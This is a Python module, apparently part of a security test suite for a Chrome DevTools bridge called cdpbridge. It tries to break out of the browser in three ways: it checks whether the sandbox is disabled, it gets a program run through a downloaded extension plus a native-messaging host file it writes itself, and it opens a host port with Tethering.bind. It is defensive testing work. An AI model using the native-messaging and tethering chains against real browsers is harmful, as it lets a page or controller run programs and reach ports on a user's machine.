"""Attacks on the machine by way of the browser's own rights: other programs, ports, its sandbox."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import Iterator
from functools import partial
from typing import Final
from urllib.parse import quote

from cdpbridge.errors import CommandError

from ._findings import Verdict, held, through, untried
from ._page import downloaded, evaluate, opened_in, tab
from ._scene import Attack, Scene

__all__ = ["program_attacks"]

_HOST: Final = "com.example.cdpbridge_attack"
# It sends its input back, and so shows that it was executed: the framing of native messages is the same both ways.
_PROGRAM: Final = "/usr/bin/tee"
_CONNECT: Final = f"""new Promise(done => {{
  const port = chrome.runtime.connectNative('{_HOST}');
  port.onMessage.addListener(() => done('ran'));
  port.onDisconnect.addListener(() => done(chrome.runtime.lastError ? chrome.runtime.lastError.message : 'closed'));
  port.postMessage({{attack: 1}});
}})"""
_MANIFEST: Final = {
    "name": "attack",
    "version": "1",
    "manifest_version": 3,
    "permissions": ["nativeMessaging"],
}
_UNTRIED: Final = (
    "signals, ptrace and shared memory of other processes",
    "they need a program of one's own in the browser; the tests of cdpbridge run them from inside a place",
)


def program_attacks(scene: Scene) -> Iterator[Attack]:
    """Yield the attacks, in their order."""
    yield Attack("programs", "Chromium's own sandbox", partial(_sandbox, scene))
    yield Attack(
        "programs",
        "execute a program by an extension and native messaging",
        partial(_native, scene),
        alone=True,
    )
    yield Attack(
        "programs", "open a port on the server's machine (Tethering.bind)", partial(_tethering, scene)
    )
    yield Attack("programs", _UNTRIED[0], _not_from_here)


async def _not_from_here() -> Verdict:
    return untried(_UNTRIED[1])


async def _sandbox(scene: Scene) -> Verdict:
    if not scene.attacker.command_line:
        return untried("the browser does not tell its command line")
    for switch in ("--no-sandbox", "--disable-seccomp-filter-sandbox", "--single-process"):
        if f" {switch}" in scene.attacker.command_line:
            return through(
                f"it runs with {switch}: a page that breaks a renderer has all of the browser's rights"
            )
    return held("no switch takes it off")


async def _native(scene: Scene) -> Verdict:
    """Name a program of the machine as the native messaging host of an extension made of downloads."""
    attacker = scene.attacker
    if not attacker.full:
        return untried("the headless shell has no extensions")
    if not attacker.downloads or not attacker.profile:
        return untried("where the browser lives is not known")
    connection = attacker.connection
    folder = f"{attacker.downloads}/extension"
    for name, content in (("manifest.json", json.dumps(_MANIFEST)), ("page.html", "<p>page")):
        how = await downloaded(connection, folder, name, content=quote(content))
        if how != "completed":
            return held(f"its files cannot be written: {how}")
    try:
        loaded = await connection.root.send("Extensions.loadUnpacked", {"path": folder})
    except CommandError as error:
        return held(f"no extension is loaded: {error.message}")
    host = {
        "name": _HOST,
        "description": "attack",
        "type": "stdio",
        "path": _PROGRAM,
        "allowed_origins": [f"chrome-extension://{loaded['id']}/"],
    }
    hosts = f"{attacker.profile}/NativeMessagingHosts"
    how = await downloaded(connection, hosts, f"{_HOST}.json", content=quote(json.dumps(host)))
    async with tab(connection) as session:
        answer = await opened_in(session, f"chrome-extension://{loaded['id']}/page.html")
        if answer.error:
            return held(f"the extension's page does not open: {answer.error}")
        said = await evaluate(session, _CONNECT)
    return through(f"{_PROGRAM} was executed") if said == "ran" else held(f"{said} (its file: {how})")


async def _tethering(scene: Scene) -> Verdict:
    if not scene.server.here:
        return untried("the server is on another machine")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    try:
        await scene.attacker.connection.root.send("Tethering.bind", {"port": port})
    except CommandError as error:
        return held(error.message)
    try:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return held("the port is not on the machine")
    writer.close()
    return through(f"port {port} of the machine was open")
